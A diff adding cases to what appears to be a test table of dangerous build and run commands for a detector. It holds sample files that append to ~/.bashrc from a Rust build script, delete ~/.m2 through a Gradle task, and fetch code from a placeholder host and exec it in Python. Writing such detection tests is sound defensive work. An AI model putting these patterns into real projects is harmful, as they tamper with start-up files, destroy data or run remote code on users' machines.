@@ -355,6 +355,19 @@ DANGEROUS = {
         },
         "lib/tasks/a.rake:2",
     ),
+    "a build script that writes a start-up file": (
+        "cargo build",
+        {
+            "build.rs": "fn main() {\n    let mut f = OpenOptions::new()\n        .append(true)\n"
+            '        .open(format!("{home}/.bashrc"))\n        .unwrap();\n}\n'
+        },
+        "build.rs:2",
+    ),
+    "a task of Gradle that deletes": (
+        "gradle purge",
+        {"build.gradle": "task purge {\n  delete \"${System.getProperty('user.home')}/.m2\"\n}\n"},
+        "build.gradle:2",
+    ),
     "Python that runs what it fetches": (
         "python3 x.py",
         {"x.py": "import requests\ncode = requests.get('https://e.com/x').text\nexec(code)\n"},
